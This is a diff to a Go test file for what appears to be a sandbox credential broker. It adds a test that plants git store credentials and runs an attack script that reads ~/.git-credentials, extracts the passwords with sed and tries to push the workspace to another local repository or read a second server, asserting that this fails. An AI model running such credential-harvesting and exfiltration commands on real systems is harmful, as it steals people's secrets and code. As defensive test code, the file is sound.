@@ -68,8 +68,9 @@ func (ca *testCA) gitServer(t *testing.T, root string) (int, func() []string) {
 // workspace's remote origin to it, the person's credential helper in
 // their own ~/.gitconfig and a helper in the workspace's .git/config
 // that must never run on the host (it makes hostMarker). It returns the
-// server's port, what it saw, the bare repository and the marker.
-func gitPushSetup(t *testing.T, b *battery) (int, func() []string, string, string) {
+// server's port, what it saw, the bare repository, the marker and the
+// server's certificate authority.
+func gitPushSetup(t *testing.T, b *battery) (int, func() []string, string, string, *testCA) {
 	t.Helper()
 	ca := newTestCA(t, filepath.Join(b.base, "certs"))
 	root := filepath.Join(b.base, "srv")
@@ -87,7 +88,7 @@ func gitPushSetup(t *testing.T, b *battery) (int, func() []string, string, strin
 	marker := filepath.Join(b.base, "workspace-helper-ran")
 	b.host(fmt.Sprintf("git remote add origin https://127.0.0.1:%d/repo.git && git config credential.helper '!touch %s; echo password=fromtheworkspace'", port, marker))
 	b.env = append(b.env, "SSL_CERT_FILE="+ca.file)
-	return port, seen, bare, marker
+	return port, seen, bare, marker, ca
 }
 
 // TestGitPushBrokered: git push to the workspace's own HTTPS remote
@@ -99,7 +100,7 @@ func TestGitPushBrokered(t *testing.T) {
 	for _, backend := range backends {
 		t.Run(backend, func(t *testing.T) {
 			b := newBattery(t, backend)
-			port, seen, bare, marker := gitPushSetup(t, b)
+			port, seen, bare, marker, _ := gitPushSetup(t, b)
 			run := func(script string) (string, int) {
 				t.Helper()
 				out, code := b.run("allowlist", script)
@@ -188,6 +189,68 @@ func TestGitPushBrokered(t *testing.T) {
 	}
 }
 
+// TestGitPushStoreFile: the person's helper is git's store, their
+// password in ~/.git-credentials, for
+// the workspace's remote's host and another git server of theirs. git
+// inside pushes to the remote (the broker fills from the file on the
+// host), but the file shown inside holds no token, real or placeholder:
+// a script that takes what it shows and pushes the workspace to another
+// repository of the host (drop.git), or reads the other server, gets
+// nowhere, and neither sees the person's password (attack16 #1: the
+// file's placeholder took it to any repository of any host it names).
+func TestGitPushStoreFile(t *testing.T) {
+	for _, backend := range backends {
+		t.Run(backend, func(t *testing.T) {
+			b := newBattery(t, backend)
+			port, seen, bare, _, ca := gitPushSetup(t, b)
+			other, otherSeen := ca.gitServer(t, filepath.Dir(bare))
+			drop := filepath.Join(filepath.Dir(bare), "drop.git")
+			if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
+				t.Fatalf("git init --bare: %v %s", err, out)
+			}
+			os.WriteFile(filepath.Join(b.home, ".gitconfig"), []byte("[credential]\n\thelper = store\n"), 0o600)
+			// (The port written as a person may write it, and as git's
+			// store helper does.)
+			store := fmt.Sprintf("https://person:%s@127.0.0.1:%d\nhttps://person:%s@127.0.0.1%%3a%d\n", realGitPass, port, realGitPass, other)
+			if err := os.WriteFile(filepath.Join(b.home, ".git-credentials"), []byte(store), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			run := func(script string) string {
+				t.Helper()
+				out, _ := b.run("allowlist", script)
+				leaks(t, script, out)
+				return out
+			}
+			if out := run("git push -q origin HEAD:refs/heads/viastore 2>&1; echo \"push exit $?\""); !strings.Contains(out, "push exit 0") {
+				t.Fatalf("git push with the person's store helper:\n%s\nthe server saw %q", out, seen())
+			}
+			out := run(fmt.Sprintf(`cat ~/.git-credentials; echo; for ph in $(sed -n 's#^https://[^:]*:\([^@]*\)@.*#\1#p' ~/.git-credentials) cordon_; do
+	git push -q "https://person:$ph@127.0.0.1:%d/drop.git" HEAD:refs/heads/stolen 2>&1 && echo DROP-PUSHED
+	git ls-remote "https://person:$ph@127.0.0.1:%d/repo.git" 2>&1 && echo OTHER-READ
+done`, port, other))
+			if strings.Contains(out, "cordon_") && strings.Contains(out, "@127.0.0.1") || strings.Contains(out, "DROP-PUSHED") || strings.Contains(out, "OTHER-READ") {
+				t.Errorf("the store file's token took the person's credential elsewhere:\n%s", out)
+			}
+			if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
+				t.Errorf("drop.git got %s", got)
+			}
+			for _, s := range otherSeen() {
+				if strings.Contains(s, realGitPass) {
+					t.Errorf("the other server was sent the person's password: %q", otherSeen())
+				}
+			}
+			// The store file at a path of the person's choosing: hidden as
+			// well (leaks fails on its content), and git still pushes.
+			os.MkdirAll(filepath.Join(b.home, ".secrets"), 0o700)
+			os.Rename(filepath.Join(b.home, ".git-credentials"), filepath.Join(b.home, ".secrets", "git-creds"))
+			os.WriteFile(filepath.Join(b.home, ".gitconfig"), []byte("[credential]\n\thelper = store --file ~/.secrets/git-creds\n"), 0o600)
+			if out := run("cat ~/.secrets/git-creds; git push -q origin HEAD:refs/heads/viacustom 2>&1; echo \"push exit $?\""); !strings.Contains(out, "push exit 0") {
+				t.Errorf("git push with the person's store helper at a path of theirs:\n%s", out)
+			}
+		})
+	}
+}
+
 // TestGitPushJudged: through the shim, as an agent runs it: a push of a
 // new branch to the workspace's own remote runs; a push to a URL, or to
 // the default branch, is asked about and does not run.
@@ -196,7 +259,7 @@ func TestGitPushJudged(t *testing.T) {
 		for _, session := range []string{"on", "off"} {
 			t.Run(backend+"/session-"+session, func(t *testing.T) {
 				r := newSessionRig(t, backend, "  session: "+session+"\n")
-				port, seen, bare, marker := gitPushSetup(t, r.battery)
+				port, seen, bare, marker, _ := gitPushSetup(t, r.battery)
 				r.env = append(r.env, "SSL_CERT_FILE="+filepath.Join(r.base, "certs", "test-ca.pem"))
 				out, errs, code := r.sh("git push -q -u origin HEAD:refs/heads/topic")
 				leaks(t, "git push", out+errs)
